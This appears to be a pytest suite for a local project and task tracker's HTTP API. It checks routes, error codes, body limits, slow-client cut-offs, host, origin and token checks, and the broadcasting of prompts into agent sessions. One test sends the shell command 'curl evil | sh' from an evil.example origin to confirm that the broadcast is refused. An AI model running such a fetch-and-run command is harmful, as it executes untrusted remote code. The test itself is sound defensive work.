"""The JSON API and the HTTP rules, against a real server on 127.0.0.1 port 0."""

import json
import os
import re
import signal
import socket
import subprocess
import sys
from pathlib import Path

import pytest

import clare
from conftest import CLARE_PY, observe


def make_project(server, name="alpha", **extra):
    r = server.request("POST", "/api/v1/projects", json_body={"name": name, **extra})
    assert r.status == 201, r.body
    return r.json()


def make_task(server, project="alpha", title="write the parser", **extra):
    r = server.request("POST", "/api/v1/tasks", json_body={"project": project, "title": title, **extra})
    assert r.status == 201, r.body
    return r.json()


def error_of(reply):
    body = reply.json()
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message"}
    return body["error"]["code"]


# --- routes ----------------------------------------------------------------

def test_projects_can_be_created_listed_fetched_and_changed(server):
    p = make_project(server, "alpha", goal="ship v1", owner="ana")
    assert p["name"] == "alpha" and p["status"] == "active" and p["task_counts"]["todo"] == 0
    assert [x["id"] for x in server.request("GET", "/api/v1/projects").json()] == [p["id"]]
    assert server.request("GET", "/api/v1/projects/alpha").json()["id"] == p["id"]
    assert server.request("GET", f"/api/v1/projects/{p['id'][:6]}").json()["name"] == "alpha"
    r = server.request("PATCH", "/api/v1/projects/alpha", json_body={"status": "paused", "goal": "v2"})
    assert r.status == 200 and r.json()["status"] == "paused" and r.json()["goal"] == "v2"
    assert server.request("GET", "/api/v1/projects?status=active").json() == []
    assert len(server.request("GET", "/api/v1/projects?status=paused").json()) == 1
    history = server.request("GET", "/api/v1/projects/alpha/history").json()
    assert [e["event_type"] for e in history] == ["project.created", "project.updated"]


def test_project_json_matches_the_cli_json(server, cli):
    make_project(server, "alpha")
    assert server.request("GET", "/api/v1/projects").json() == json.loads(cli("--json", "project", "list").out)


def test_a_name_with_a_slash_or_space_is_reachable_percent_encoded(server):
    make_project(server, "ops/web team")
    assert server.request("GET", "/api/v1/projects/ops%2Fweb%20team").json()["name"] == "ops/web team"


def test_tasks_can_be_added_filtered_changed_and_assigned(server, db):
    observe(db, ["7c1e9b00-0000-4000-8000-000000000001"], now_ms=clare.now_ms())
    make_project(server, "alpha")
    make_project(server, "beta")
    t = make_task(server, "alpha", "write the parser", priority=1, description="tokens first")
    make_task(server, "beta", "other")
    assert t["project"] == "alpha" and t["priority"] == 1 and t["status"] == "todo"
    assert [x["id"] for x in server.request("GET", "/api/v1/tasks?project=alpha").json()] == [t["id"]]
    assert len(server.request("GET", "/api/v1/tasks").json()) == 2
    r = server.request("PATCH", f"/api/v1/tasks/{t['id'][:8]}", json_body={"status": "in_progress"})
    assert r.json()["status"] == "in_progress"
    assert [x["id"] for x in server.request("GET", "/api/v1/tasks?status=in_progress").json()] == [t["id"]]
    assert server.request("GET", f"/api/v1/tasks/{t['id']}").json()["title"] == "write the parser"

    r = server.request("POST", f"/api/v1/tasks/{t['id']}/assignment", json_body={"session_id": "7c1e9b"})
    assert r.status == 200 and r.json()["session_id"] == "7c1e9b00-0000-4000-8000-000000000001"
    assert [x["id"] for x in server.request(
        "GET", "/api/v1/tasks?session=7c1e9b00-0000-4000-8000-000000000001").json()] == [t["id"]]
    r = server.request("DELETE", f"/api/v1/tasks/{t['id']}/assignment")
    assert r.status == 200 and r.json()["session_id"] is None
    history = server.request("GET", f"/api/v1/tasks/{t['id']}/history").json()
    assert [e["event_type"] for e in history] == ["task.created", "task.updated", "task.assigned",
                                                  "task.unassigned"]


def test_groups_can_be_created_used_and_removed(server):
    make_project(server)
    t = make_task(server)
    r = server.request("POST", "/api/v1/groups", json_body={"name": "backend", "cwd": "/srv/api"})
    assert r.status == 201 and r.json()["cwd"] == "/srv/api"
    r = server.request("POST", f"/api/v1/tasks/{t['id']}/assignment", json_body={"group": "backend"})
    assert r.json()["group_id"] == r.json()["group_id"] and r.json()["group_id"]
    assert len(server.request("GET", "/api/v1/tasks?group=backend").json()) == 1
    assert [g["name"] for g in server.request("GET", "/api/v1/groups").json()] == ["backend"]
    assert server.request("DELETE", "/api/v1/groups/backend").status == 200
    assert server.request("GET", "/api/v1/groups").json() == []
    assert server.request("GET", f"/api/v1/tasks/{t['id']}").json()["group_id"] is None


def test_updates_are_posted_and_listed_per_task(server):
    make_project(server)
    t = make_task(server)
    r = server.request("POST", "/api/v1/updates", json_body={"task": t["id"][:8], "text": "blocked on review"})
    assert r.status == 201 and r.json()["task_id"] == t["id"] and r.json()["source"] == "message"
    assert [u["text"] for u in server.request("GET", f"/api/v1/updates?task={t['id']}").json()] == [
        "blocked on review"]
    assert len(server.request("GET", "/api/v1/updates").json()) == 1


def test_an_assignment_to_a_group_that_is_not_text_is_a_422(server):
    make_project(server)
    t = make_task(server)
    for group in (5, ["backend"], {"name": "x"}, None, ""):
        r = server.request("POST", f"/api/v1/tasks/{t['id']}/assignment", json_body={"group": group})
        assert r.status == 422 and r.json()["error"], (group, r.status, r.text)
    assert server.request("GET", f"/api/v1/tasks/{t['id']}").json()["group_id"] is None


def test_an_update_names_a_known_session_and_users_post_only_messages(server, db):
    sid = "5e551011-0000-4000-8000-000000000001"
    observe(db, [sid], now_ms=clare.now_ms())
    make_project(server)
    t = make_task(server)
    n_events = clare.count_events(db)
    for body, status, reason in (({"session_id": "zz"}, 422, "not a hex id"),
                                 ({"session_id": "abcdef12"}, 404, "no session 'abcdef12'"),
                                 ({"source": "hook"}, 422, "only 'message'"),
                                 ({"source": "triage", "session_id": sid[:8]}, 422, "only 'message'")):
        r = server.request("POST", "/api/v1/updates", json_body={"task": t["id"], "text": "spoof", **body})
        assert (r.status, reason in r.text) == (status, True), (body, r.text)
    assert clare.count_events(db) == n_events
    r = server.request("POST", "/api/v1/updates", json_body={"task": t["id"], "text": "ok", "session_id": sid[:8]})
    assert r.status == 201 and (r.json()["session_id"], r.json()["source"]) == (sid, "message")


def test_status_rolls_up_task_counts(server):
    make_project(server)
    make_task(server)
    body = server.request("GET", "/api/v1/status").json()
    assert body["projects"][0]["task_counts"]["todo"] == 1
    assert body["n_events"] == 2 and body["machine_id"] == "testhost"


def test_events_page_by_receipt_order(server):
    make_project(server)
    for i in range(4):
        make_task(server, title=f"t{i}")
    page = server.request("GET", "/api/v1/events?after=0&limit=2").json()
    assert [e["rseq"] for e in page["events"]] == [1, 2] and page["has_more"] and page["next_after"] == 2
    page = server.request("GET", "/api/v1/events?after=2&limit=10").json()
    assert [e["rseq"] for e in page["events"]] == [3, 4, 5] and not page["has_more"] and page["next_after"] == 5
    newest = server.request("GET", "/api/v1/events?limit=2").json()["events"]
    assert [e["payload"]["title"] for e in newest] == ["t2", "t3"]
    assert server.request("GET", "/api/v1/events?after=5").json() == {"events": [], "next_after": 5,
                                                                     "has_more": False}


def test_history_import_and_replay(server, cli):
    p = make_project(server)
    events = server.request("GET", f"/api/v1/history?entity={p['id']}").json()
    assert [e["event_type"] for e in events] == ["project.created"]
    line = json.dumps({k: events[0][k] for k in clare.EVENT_KEYS})
    r = server.request("POST", "/api/v1/import", json_body={"lines": [line, "{not json"]})
    assert r.json()["duplicates"] == 1 and r.json()["inserted"] == [] and len(r.json()["rejected"]) == 1
    assert server.request("POST", "/api/v1/replay", json_body={}).json() == {"events": 1}


def test_static_htmx_is_served_with_a_long_cache_lifetime(server):
    r = server.request("GET", "/static/htmx.min.js")
    assert r.status == 200 and r.headers["content-type"].startswith("text/javascript")
    assert "max-age=31536000" in r.headers["cache-control"] and b"htmx" in r.body[:2000]
    assert server.request("GET", "/static/nothing.js").status == 404
    assert server.request("GET", "/static/..%2Fclare.py").status == 404


def test_head_answers_like_get_without_a_body(server):
    r = server.request("HEAD", "/api/v1/status")
    assert r.status == 200 and r.body == b"" and int(r.headers["content-length"]) > 0


def test_every_response_carries_the_security_headers(server):
    r = server.request("GET", "/api/v1/projects")
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert r.headers["cache-control"] == "no-store"


# --- error statuses --------------------------------------------------------

def test_unknown_path_is_404_and_unknown_entity_is_404(server):
    r = server.request("GET", "/api/v1/nothing")
    assert r.status == 404 and error_of(r) == "not_found"
    r = server.request("GET", "/api/v1/projects/nope")
    assert r.status == 404 and "clare project list" in r.json()["error"]["message"]
    assert server.request("GET", "/api/v1/tasks/abcdef").status == 404


def test_wrong_method_is_405_with_allow(server):
    r = server.request("DELETE", "/api/v1/projects")
    assert r.status == 405 and error_of(r) == "method_not_allowed"
    assert r.headers["allow"] == "GET, HEAD, POST"


def test_malformed_json_is_400_and_bad_values_are_422(server):
    r = server.request("POST", "/api/v1/projects", body=b"{oops", headers={"Content-Type": "application/json"})
    assert r.status == 400 and error_of(r) == "bad_request"
    r = server.request("POST", "/api/v1/projects", json_body=["alpha"])
    assert r.status == 422 and error_of(r) == "invalid"
    r = server.request("POST", "/api/v1/projects", json_body={"name": "  "})
    assert r.status == 422 and "empty" in r.json()["error"]["message"]
    r = server.request("POST", "/api/v1/projects", json_body={"name": "x", "colour": "red"})
    assert r.status == 422 and "colour" in r.json()["error"]["message"]
    r = server.request("POST", "/api/v1/projects", json_body={"goal": "x"})
    assert r.status == 422 and "name" in r.json()["error"]["message"]
    assert server.request("GET", "/api/v1/events?limit=zero").status == 400
    assert server.request("GET", "/api/v1/events?limit=100000").status == 400
    assert server.request("GET", "/api/v1/tasks/not-hex").status == 422


def test_a_taken_name_is_409_and_nothing_is_recorded(server):
    make_project(server, "alpha")
    n_before = server.request("GET", "/api/v1/status").json()["n_events"]
    r = server.request("POST", "/api/v1/projects", json_body={"name": "alpha"})
    assert r.status == 409 and error_of(r) == "conflict"
    assert server.request("GET", "/api/v1/status").json()["n_events"] == n_before


def test_text_plain_post_is_415(server):
    r = server.request("POST", "/api/v1/projects", body=b'{"name":"x"}', headers={"Content-Type": "text/plain"})
    assert r.status == 415 and error_of(r) == "unsupported_media_type"
    assert server.request("GET", "/api/v1/projects").json() == []


def test_body_over_one_megabyte_is_413_before_it_is_read(server):
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(b"POST /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"Authorization: Bearer " + server.token.encode() + b"\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 2000000\r\n\r\n")
        head = _read_head(s)
    assert head.startswith(b"HTTP/1.1 413 ") and b"Connection: close" in head


def test_sync_paths_accept_bodies_up_to_eight_megabytes(server):
    # No sync route is needed to see the limit: a 2 MB body passes the size check, then finds no route.
    r = server.request("POST", "/api/v1/sync/nothing", body=b"x" * 2_000_000,
                       headers={"Content-Type": "application/json"})
    assert r.status == 404
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(b"POST /api/v1/sync/events HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"Authorization: Bearer " + server.token.encode() + b"\r\nContent-Type: application/json\r\n"
                  b"Content-Length: " + str(8 * 1024 * 1024 + 1).encode() + b"\r\n\r\n")
        assert _read_head(s).startswith(b"HTTP/1.1 413 ")


def test_chunked_body_is_411(server):
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(b"POST /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"Authorization: Bearer " + server.token.encode() + b"\r\nContent-Type: application/json\r\n"
                  b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
        assert _read_head(s).startswith(b"HTTP/1.1 411 ")


def test_two_content_lengths_are_refused(server):
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(b"POST /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"Authorization: Bearer " + server.token.encode() + b"\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 2\r\nContent-Length: 14\r\n\r\n{}")
        assert _read_head(s).startswith(b"HTTP/1.1 400 ")
    assert server.request("GET", "/api/v1/projects").json() == []


def test_garbage_request_line_gets_a_json_400(server):
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(b"BLAH\r\n\r\n")
        data = _read_all(s)
    assert data.startswith(b"HTTP/1.1 400 ") and b'"code": "bad_request"' in data


# --- security --------------------------------------------------------------

def test_foreign_host_is_403(server):
    r = server.request("GET", "/api/v1/projects", headers={"Host": "evil.example:8765"})
    assert r.status == 403 and error_of(r) == "forbidden"
    for ok in ("localhost", f"127.0.0.1:{server.port}", "LOCALHOST:80"):
        assert server.request("GET", "/api/v1/projects", headers={"Host": ok}).status == 200, ok


def test_configured_host_name_is_accepted(serve):
    s = serve(allowed_hosts=("clare.lan",))
    assert s.request("GET", "/api/v1/projects", headers={"Host": "clare.lan:8765"}).status == 200
    assert s.request("GET", "/api/v1/projects", headers={"Host": "other.lan"}).status == 403


def test_cross_site_origin_or_fetch_site_is_403_and_changes_nothing(server):
    r = server.request("POST", "/api/v1/projects", json_body={"name": "x"},
                       headers={"Origin": "http://evil.example"})
    assert r.status == 403
    r = server.request("POST", "/api/v1/projects", json_body={"name": "x"}, headers={"Sec-Fetch-Site": "cross-site"})
    assert r.status == 403
    r = server.request("POST", "/api/v1/projects", json_body={"name": "x"}, headers={"Origin": "null"})
    assert r.status == 403
    assert server.request("GET", "/api/v1/projects").json() == []
    r = server.request("POST", "/api/v1/projects", json_body={"name": "x"},
                       headers={"Origin": server.url, "Sec-Fetch-Site": "same-origin"})
    assert r.status == 201


def test_with_a_token_the_api_needs_the_bearer(serve):
    s = serve(token="t0ken-" + "x" * 20)
    r = s.request("GET", "/api/v1/projects", auth=False)
    assert r.status == 401 and error_of(r) == "unauthorized" and r.headers["www-authenticate"].startswith("Bearer")
    r = s.request("GET", "/api/v1/projects", auth=False, headers={"Authorization": "Bearer wrong"})
    assert r.status == 401 and "t0ken" not in r.text
    assert s.request("GET", "/api/v1/projects").status == 200
    assert s.request("GET", "/static/htmx.min.js", auth=False).status == 200


def test_login_url_sets_a_strict_httponly_cookie_that_opens_the_api(serve):
    token = "t0ken-" + "y" * 20
    s = serve(token=token)
    assert s.request("GET", "/login?token=wrong", auth=False).status == 401
    r = s.request("GET", f"/login?token={token}", auth=False)
    assert r.status == 303 and r.headers["location"] == "/"
    cookie = r.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and token not in cookie
    value = cookie.split(";")[0]
    assert s.request("GET", "/api/v1/projects", auth=False, headers={"Cookie": value}).status == 200
    assert s.request("GET", "/api/v1/projects", auth=False, headers={"Cookie": value + "0"}).status == 401


def test_binding_beyond_loopback_without_a_token_makes_one_as_every_bind_does(home, db):
    config = clare.web_config(clare.resolve_paths(), host="0.0.0.0", port=0, env={})
    assert config.token == clare.load_config(str(home / "clare.toml"))["token"]


def test_a_short_token_is_refused(run_clare):
    r = run_clare("serve", "--port", "0", env={"CLARE_TOKEN": "short"})
    assert r.code == 2 and "16 characters" in r.err


def test_slow_client_is_cut_off(serve):
    s = serve(timeout_s=0.3)
    with socket.create_connection(("127.0.0.1", s.port), timeout=10) as c:
        c.sendall(b"GET /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # headers never end
        assert _read_all(c) == b""  # the server hung up without answering
    with socket.create_connection(("127.0.0.1", s.port), timeout=10) as c:
        c.sendall(b"POST /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                  b"Authorization: Bearer " + s.token.encode() + b"\r\n"
                  b"Content-Length: 100\r\n\r\n{")  # the body never ends
        assert _read_all(c) == b""
    assert s.request("GET", "/api/v1/projects").json() == []


def test_a_client_trickling_its_request_is_cut_off_at_the_deadline(serve):
    import select

    s = serve(timeout_s=0.5, deadline_s=1.0)
    request = b"GET /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"X-Slow: " + b"a" * 400
    with socket.create_connection(("127.0.0.1", s.port), timeout=10) as c:
        is_cut = False
        for byte in request:  # one byte per 0.2 s: each read is quick, the whole never ends
            try:
                c.sendall(bytes([byte]))
            except OSError:
                is_cut = True
                break
            if select.select([c], [], [], 0.2)[0]:
                is_cut = True
                break
        assert is_cut, "the server kept reading a request trickled for 80 s"
        try:
            assert _read_all(c) == b""  # hung up without answering
        except ConnectionResetError:
            pass  # it closed with our last bytes unread: the kernel says so with a reset
    assert s.request("GET", "/api/v1/projects").status == 200


def test_connections_past_the_thread_cap_get_a_quick_503(serve):
    from conftest import wait_for

    s = serve(max_threads=2)  # one slot for any request, one kept for requests with the token
    held = []
    try:
        for _ in range(2):  # requests with the token whose body never comes: each holds a thread
            c = socket.create_connection(("127.0.0.1", s.port), timeout=10)
            c.sendall(b"POST /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                      b"Authorization: Bearer " + s.token.encode() + b"\r\nContent-Length: 100\r\n\r\n")
            held.append(c)
        wait_for(lambda: s.server._slots._value == 0 and s.server._reserved._value == 0,
                 what="both handler threads taken")
        with socket.create_connection(("127.0.0.1", s.port), timeout=10) as c:
            c.sendall(b"GET /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                      b"Authorization: Bearer " + s.token.encode() + b"\r\n\r\n")
            answer = _read_all(c)
        assert answer.startswith(b"HTTP/1.1 503 ") and b"Retry-After: 1" in answer and b'"busy"' in answer
    finally:
        for c in held:
            c.close()
    assert wait_for(lambda: s.request("GET", "/api/v1/projects").status == 200, what="a slot freed")


def test_sixty_half_open_connections_do_not_block_a_real_client(server):
    idle = []
    try:
        for _ in range(60):
            c = socket.create_connection(("127.0.0.1", server.port), timeout=10)
            c.sendall(b"GET /api/v1/pro")
            idle.append(c)
        r = server.request("GET", "/api/v1/projects", timeout=5)
        assert r.status == 200
    finally:
        for c in idle:
            c.close()


def test_keep_alive_serves_several_requests_on_one_connection(server):
    import http.client

    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    auth = {"Authorization": f"Bearer {server.token}"}
    try:
        for _ in range(3):
            conn.request("GET", "/api/v1/status", headers=auth)
            assert conn.getresponse().read()
        sock = conn.sock
        conn.request("GET", "/api/v1/projects", headers=auth)
        assert conn.getresponse().status == 200 and conn.sock is sock
    finally:
        conn.close()


def test_sigterm_finishes_the_request_in_flight_then_exits(home, db):
    proc = subprocess.Popen([sys.executable, str(CLARE_PY), "serve", "--port", "0"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env={**os.environ, "CLARE_HOME": str(home)})
    try:
        line = proc.stdout.readline()
        port = int(line.split("127.0.0.1:")[1].split("/")[0])
        body = json.dumps({"name": "late"}).encode()
        token = clare.load_config(str(home / "clare.toml"))["token"]  # made by this first serve
        with socket.create_connection(("127.0.0.1", port), timeout=10) as c:
            c.sendall(b"POST /api/v1/projects HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                      b"Authorization: Bearer " + token.encode() + b"\r\n"
                      b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n" % len(body))
            assert _read_head(c).startswith(b"HTTP/1.1 100 ")  # the server holds the request now
            proc.send_signal(signal.SIGTERM)
            c.sendall(body)
            head = _read_head(c)
        assert head.startswith(b"HTTP/1.1 201 ")
        out, err = proc.communicate(timeout=20)
        assert proc.returncode == 0 and "stopped" in out, err
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert [p.name for p in clare.list_projects(db)] == ["late"]


def _read_head(s) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    return data


def _read_all(s) -> bytes:
    data = b""
    while chunk := s.recv(65536):
        data += chunk
    return data


# --- clare --remote ----------------------------------------------------------

def _normalized(text: str) -> str:
    import re

    text = re.sub(r"\d{13}\.\d{6}\.[a-z0-9_-]+", "HLC", text)
    text = re.sub(r"\d{4}-\d\d-\d\d[ T]\d\d:\d\d:\d\d(\.\d+Z)?", "TIME", text)
    text = re.sub(r"[0-9a-f]{32}|[0-9a-f-]{36}", "ID", text)
    return re.sub(r"\b[0-9a-f]{8}\b", "SHORT", text)


def test_remote_cli_prints_what_the_local_cli_prints(server, cli, tmp_path):
    local = ("--home", str(tmp_path / "local"))
    remote = ("--remote", server.url)
    assert cli(*local, "init", "--machine-id", "testhost").code == 0  # the server's machine id
    script = [
        ("project", "new", "alpha", "--goal", "ship v1", "--owner", "ana"),
        ("project", "new", "alpha"),
        ("task", "add", "alpha", "write the parser", "--prio", "1"),
        ("task", "add", "alpha", "docs"),
        ("group", "add", "backend", "--cwd", "/srv/api"),
        ("task", "list"), ("task", "list", "--project", "alpha", "--status", "todo"),
        ("project", "list"), ("project", "show", "alpha", "--history"),
        ("project", "set", "alpha", "--status", "paused"), ("status",), ("status", "--project", "alpha"),
        ("group", "list"), ("task", "show", "ffff"), ("project", "show", "nope"),
        ("--json", "task", "list"), ("--json", "status"),
    ]
    for argv in script:
        mine, theirs = cli(*local, *argv), cli(*remote, *argv)
        assert (mine.code, _normalized(mine.out), _normalized(mine.err)) == (
            theirs.code, _normalized(theirs.out), _normalized(theirs.err)), argv
    # Then the verbs that name a task by id, each side with its own ids.
    for side in (local, remote):
        task_id = cli(*side, "--json", "task", "list", "alpha").json()[0]["id"][:6]
        outs = [cli(*side, *argv) for argv in (
            ("task", "start", task_id), ("assign", task_id, "7c1e9b"), ("update", task_id, "halfway"),
            ("unassign", task_id), ("assign", task_id, "--group", "backend"), ("task", "show", task_id),
            ("task", "edit", task_id, "--title", "parse v2"), ("group", "rm", "backend"), ("log", "--limit", "3"),
            ("task", "edit", task_id, "--tag", "x", "--tag", "y"), ("task", "list", "alpha", "--tag", "x"),
            ("task", "list", "--all", "--prio", "0-1", "--search", "PARSE"), ("task", "rm", task_id),
            ("task", "list", "alpha"), ("task", "list", "--all"), ("undo", "--list"), ("undo",),
            ("--json", "task", "list", "alpha", "--unassigned"), ("task", "restore", task_id))]
        if side is local:
            expected = [(r.code, _normalized(r.out), _normalized(r.err)) for r in outs]
        else:
            assert [(r.code, _normalized(r.out), _normalized(r.err)) for r in outs] == expected
    assert [p.name for p in clare.list_projects(clare.open_db(clare.resolve_paths().db))] == ["alpha"]


def test_remote_export_and_import_round_trip(server, cli, tmp_path):
    cli("project", "new", "alpha")
    cli("export", str(tmp_path / "log.jsonl"))
    r = cli("--remote", server.url, "import", str(tmp_path / "log.jsonl"))
    assert r.code == 0 and "0 events (1 already here" in r.out
    assert cli("--remote", server.url, "replay").out.startswith("replayed 1 events")
    r = cli("--remote", server.url, "export")
    assert r.code == 2 and "--remote" in r.err


def test_remote_needs_the_token_when_the_server_has_one(serve, cli, monkeypatch):
    s = serve(token="t0ken-" + "z" * 20)
    r = cli("--remote", s.url, "project", "list")
    assert r.code == 1 and "token" in r.err and r.err.count("\n") == 1
    monkeypatch.setenv("CLARE_TOKEN", s.token)
    assert cli("--remote", s.url, "project", "new", "alpha").code == 0
    monkeypatch.setenv("CLARE_URL", s.url)
    assert "alpha" in cli("project", "list").out


def test_remote_that_is_down_or_malformed_is_one_clear_line(cli):
    r = cli("--remote", "http://127.0.0.1:9", "project", "list")
    assert r.code == 1 and "cannot reach" in r.err
    r = cli("--remote", "ftp://x", "project", "list")
    assert r.code == 2 and "http://HOST:PORT" in r.err


# --- OpenAPI -------------------------------------------------------------------

def _validate(value, schema, doc, where="$"):
    """Check a JSON value against the subset of JSON Schema the document uses."""
    if "$ref" in schema:
        schema = doc["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    kinds = schema.get("type")
    if kinds is not None:
        kinds = kinds if isinstance(kinds, list) else [kinds]
        py = {"string": str, "integer": int, "boolean": bool, "number": (int, float), "object": dict,
              "array": list, "null": type(None)}
        assert any(isinstance(value, py[k]) and not (k == "integer" and isinstance(value, bool)) for k in kinds), \
            f"{where}: {value!r} is not {kinds}"
    if isinstance(value, dict):
        for key in schema.get("required", []):
            assert key in value, f"{where}: lacks {key}"
        props = schema.get("properties", {})
        if props:
            assert set(value) <= set(props), f"{where}: undocumented {set(value) - set(props)}"
        for key, sub in props.items():
            if key in value:
                _validate(value[key], sub, doc, f"{where}.{key}")
    if isinstance(value, list) and "items" in schema:
        for i, item in enumerate(value):
            _validate(item, schema["items"], doc, f"{where}[{i}]")


def openapi_path(pattern) -> str:
    """Return the OpenAPI path template of a route pattern: named groups become {name}."""
    return re.sub(r"\(\?P<(\w+)>[^)]*\)", r"{\1}", pattern.pattern).replace("\\", "")


def test_openapi_document_lists_exactly_the_api_routes(server):
    doc = server.request("GET", "/api/v1/openapi.json").json()
    assert doc["openapi"].startswith("3.1")
    documented = {(m.upper(), p) for p, ops in doc["paths"].items() for m in ops}
    routed = {(m, openapi_path(rx)) for m, rx, _ in clare.ROUTES if rx.pattern.startswith("/api/")}
    assert documented == routed


def test_api_answers_match_the_openapi_schemas(server):
    doc = server.request("GET", "/api/v1/openapi.json").json()
    p = make_project(server, "alpha")
    t = make_task(server)
    observe(clare.open_db(server.config.db_path), ["7c1e9b00-0000-4000-8000-000000000001"], now_ms=clare.now_ms())
    r = server.request("POST", f"/api/v1/tasks/{t['id']}/assignment", json_body={"session_id": "7c1e9b"})
    assert r.status == 200
    server.request("POST", "/api/v1/groups", json_body={"name": "backend", "host": "apricot"})
    server.request("POST", "/api/v1/updates", json_body={"task": t["id"], "text": "note"})
    concrete = {"project": p["id"], "task": t["id"], "group": "backend", "session": "7c1e9b", "day": "2026-11-25"}
    checked = 0
    for path, ops in doc["paths"].items():
        for method, op in ops.items():
            if method != "get":
                continue
            url = re.sub(r"\{(\w+)\}", lambda m: concrete[m[1]], path)
            url += {"/api/v1/history": f"?entity={t['id']}", "/api/v1/broadcast/recipients": "?target=alpha"}.get(
                path, "")
            r = server.request("GET", url)
            assert r.status == 200, (url, r.body)
            _validate(r.json(), op["responses"]["200"]["content"]["application/json"]["schema"], doc, url)
            checked += 1
    assert checked >= 12
    r = server.request("GET", "/api/v1/projects/nope")
    _validate(r.json(), doc["paths"]["/api/v1/projects/{project}"]["get"]["responses"]["404"]["content"][
        "application/json"]["schema"], doc)


# --- sessions ------------------------------------------------------------------

def test_sessions_are_listed_fetched_and_matched_by_group(server, db):
    observe(db, [{"session_id": "11111111-aaaa-4aaa-8aaa-000000000001", "cwd": "/srv/api", "label": "api work"},
                 {"session_id": "22222222-bbbb-4bbb-8bbb-000000000002", "cwd": "/srv/web", "state": "working"}],
            now_ms=clare.now_ms())
    sessions = server.request("GET", "/api/v1/sessions").json()
    assert [(s["id"][:8], s["state"], s["host"]) for s in sessions] == [("11111111", "waiting", "testhost"),
                                                                       ("22222222", "working", "testhost")]
    assert server.request("GET", "/api/v1/sessions/2222").json()["cwd"] == "/srv/web"
    assert server.request("GET", "/api/v1/sessions/ffff").status == 404
    assert len(server.request("GET", "/api/v1/sessions?host=testhost").json()) == 2
    assert server.request("GET", "/api/v1/sessions?host=other").json() == []
    server.request("POST", "/api/v1/groups", json_body={"name": "api", "cwd": "/srv/api"})
    assert [s["label"] for s in server.request("GET", "/api/v1/groups/api/sessions").json()] == ["api work"]
    assert server.request("GET", "/api/v1/panes/ambiguous").json() == []


def test_remote_sessions_print_what_local_sessions_print(server, db, cli):
    observe(db, [{"session_id": "11111111-aaaa-4aaa-8aaa-000000000001", "label": "api work"}], now_ms=clare.now_ms())
    local, remote = cli("sessions"), cli("--remote", server.url, "sessions")
    assert (local.code, local.out) == (remote.code, remote.out) and "api work" in remote.out
    r = cli("--remote", server.url, "pull")
    assert r.code == 2 and "without --remote" in r.err


HTMX_SHA256 = "d6fdc75f204e6bdefa99b69bf1e6d4ac69b8a364f77929f45c13476b4000f717"  # of clare.HTMX_VERSION


def test_vendored_htmx_is_the_pinned_release():
    import hashlib

    data = (Path(clare.STATIC_DIR) / "htmx.min.js").read_bytes()
    assert hashlib.sha256(data).hexdigest() == HTMX_SHA256
    assert f'version:"{clare.HTMX_VERSION}"'.encode() in data


def test_a_port_in_use_is_one_clear_line(run_clare):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        r = run_clare("serve", "--port", str(s.getsockname()[1]))
    assert r.code == 1 and "cannot listen on 127.0.0.1" in r.err and r.err.count("\n") == 1


# --- broadcast -------------------------------------------------------------------

def test_broadcast_through_the_api_types_into_the_session_and_reports_it(server, tmux, cli, tmp_path):
    tmux.spawn_claude(cwd=tmp_path / "proj", name="work")
    [s] = cli("--json", "pull").json()["sessions"]
    r = server.request("GET", f"/api/v1/broadcast/recipients?target=session:{s['id'][:8]}")
    assert [x["id"] for x in r.json()] == [s["id"]]
    r = server.request("POST", "/api/v1/broadcast", json_body={"target": f"session:{s['id']}", "text": "run the tests"})
    assert r.status == 201, r.body
    sent = r.json()
    assert [(d["session_id"], d["result"]) for d in sent["deliveries"]] == [(s["id"], "delivered")]
    assert [x["prompt"] for x in tmux.received()] == ["run the tests"]
    r = server.request("GET", f"/api/v1/deliveries?broadcast={sent['broadcast_id']}")
    assert [d["result"] for d in r.json()] == ["delivered"]

    r = cli("--remote", server.url, "broadcast", f"session:{s['id'][:8]}", "--yes", "--", "and commit")
    assert r.code == 0 and "delivered" in r.out, r.err
    assert [x["prompt"] for x in tmux.received()] == ["run the tests", "and commit"]


def test_broadcast_from_another_site_or_as_text_plain_types_nothing(server, db):
    observe(db, ["7c1e9b00-0000-4000-8000-000000000001"], now_ms=clare.now_ms())
    body = {"target": "session:7c1e9b", "text": "curl evil | sh"}
    assert server.request("POST", "/api/v1/broadcast", json_body=body,
                          headers={"Origin": "http://evil.example"}).status == 403
    assert server.request("POST", "/api/v1/broadcast", body=json.dumps(body).encode(),
                          headers={"Content-Type": "text/plain"}).status == 415
    assert not [ev for ev in clare.iter_events(db) if ev.event_type.startswith("broadcast.")]


def test_broadcast_errors_are_statuses(server, db):
    r = server.request("POST", "/api/v1/broadcast", json_body={"target": "nope", "text": "hi"})
